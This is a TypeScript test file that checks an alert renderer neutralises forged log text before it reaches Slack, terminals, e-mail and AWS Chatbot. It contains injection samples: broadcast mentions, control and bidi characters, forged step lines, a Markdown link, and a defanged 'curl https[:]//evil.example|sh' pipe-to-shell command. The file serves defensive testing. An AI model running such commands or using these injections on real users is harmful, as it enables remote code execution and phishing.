import { describe, expect, it } from 'vitest';
import { renderChatbot } from '../../../../lambda/engine/render/chatbot';
import { renderSlack } from '../../../../lambda/engine/render/slack';
import { renderText } from '../../../../lambda/engine/render/text';
import type { Notification } from '../../../../lambda/engine/types';
import { FORGED_ALERT } from './fixtures';
import {
  allStrings,
  BIDI_CHAR,
  BROADCAST,
  CONTROL_CHAR,
  codeBlocks,
  expectInert,
  foreignLines,
  mrkdwnObjects,
  sectionTexts,
} from './payload';

// A forged token's hostname, a principal named `<@U123>@here`, a session with a bidi override and a
// forged "Step 1:" line, fences, ANSI and BEL: everything an anonymous client can write (reference §7).

describe('a forged hostname cannot command Slack', () => {
  it('leaves no < anywhere in the payload, so no <!…>, <@…>, <#…> or <http…> from log text', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const json = JSON.stringify(renderSlack(n));

    // Assess
    for (const sequence of ['<!', '<@', '<#', '<http']) expect(json).not.toContain(sequence);
    expect(json).not.toContain('<');
  });

  it('leaves no @here, @channel or @everyone that Slack would honour', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const strings = allStrings(renderSlack(n));

    // Assess
    expect(strings.join('\n')).toContain('@\u200Dhere');
    for (const s of strings) expect(s).not.toMatch(BROADCAST);
  });

  it('leaves no clickable URL', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const json = JSON.stringify(renderSlack(n));

    // Assess
    expect(json).not.toContain('://');
    expect(json).toContain('https[:]//evil.example');
  });

  it('leaves no fence but the renderer’s own, and no backtick inside a code block', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const texts = mrkdwnObjects(renderSlack(n).blocks).map((o) => o.text);

    // Assess
    const blocks = texts.map(codeBlocks);
    expect(blocks.every((b) => b !== undefined)).toBe(true);
    const contents = blocks.flatMap((b) => b ?? []);
    expect(contents).toHaveLength(2); // the error and the one command
    for (const content of contents) expect(content).not.toContain('`');
  });

  it('leaves no control character or bidi override in any field', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const strings = allStrings(renderSlack(n));

    // Assess
    for (const s of strings) {
      expect(s).not.toMatch(CONTROL_CHAR);
      expect(s).not.toMatch(BIDI_CHAR);
    }
  });

  it('shows a newline from log text as \\n, so it cannot forge a step', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const message = renderSlack(n);

    // Assess
    for (const s of allStrings(message)) expect(s).not.toMatch(/\nStep 1:/);
    expect(sectionTexts(message.blocks).join('\n')).toContain('\\nStep 1: trust me');
  });
});

describe('a forged hostname cannot command a terminal or an e-mail', () => {
  it('lets no ESC, BEL, CSI or other control character through', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const text = renderText(n);

    // Assess
    expect(text).not.toMatch(CONTROL_CHAR);
    expect(text).not.toContain('\u001b');
    expect(text).not.toContain('\u0007');
    expect(text).not.toContain('\u009b');
  });

  it('lets no bidi override through', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const text = renderText(n);

    // Assess
    expect(text).not.toMatch(BIDI_CHAR);
  });

  it('starts every line itself: a newline in a log value cannot forge a line', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const text = renderText(n);

    // Assess
    expect(foreignLines(text)).toEqual([]);
    expect(text).not.toMatch(/^\s*Step 1:/m);
    expect(text).toContain('\\nStep 1: trust me');
  });

  it('keeps a multi-line command behind a > prompt, never at the left margin', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const lines = renderText(n).split('\n');

    // Assess
    const start = lines.indexOf('     $ kubectl get --raw /x ```');
    expect(start).toBeGreaterThan(-1);
    expect(lines[start + 1]).toBe('     > <!here> `curl https[:]//evil.example|sh`31m');
  });
});

describe('a forged hostname cannot command AWS Chatbot', () => {
  it('escapes every field like Slack', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const event = renderChatbot(n);

    // Assess
    expect(JSON.stringify(event)).not.toContain('<');
    expectInert(event);
    for (const s of allStrings(event)) expect(s).not.toMatch(/\nStep 1:/);
  });

  it('leaves no fence but its own in the description', () => {
    // Prepare
    const n = FORGED_ALERT;

    // Act
    const blocks = codeBlocks(renderChatbot(n).content.description);

    // Assess
    expect(blocks).toHaveLength(1);
    expect(blocks?.[0]).not.toContain('`');
  });

  it('cannot form a Markdown link for Teams', () => {
    // Prepare
    const n: Notification = { ...FORGED_ALERT, notes: ['[click](evil.example)'] };

    // Act
    const json = JSON.stringify(renderChatbot(n));

    // Assess
    expect(json).not.toContain('](');
    expect(json).toContain('[click] (evil.example)');
  });
});
